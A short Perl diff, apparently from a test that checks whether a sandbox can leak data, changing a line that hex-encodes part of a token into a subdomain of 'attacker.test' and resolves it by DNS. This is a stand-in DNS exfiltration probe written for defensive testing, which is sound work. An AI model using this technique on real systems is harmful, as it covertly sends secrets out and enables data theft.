@@ -8,7 +8,7 @@ use Door;
 use Socket qw(:DEFAULT :addrinfo);
 use Network;
 
-my $name = control_run() ? 'localhost' : unpack('H*', substr own_token(), -12) . '.attacker.test';
+my $name = control_run() ? 'localhost' : unpack('H*', substr 'not-a-secret' . own_token(), -12) . '.attacker.test';
 alarm 8;
 my ($error, @found) = getaddrinfo($name, 80, { socktype => SOCK_STREAM });
 succeeded("$name was resolved.") if @found;
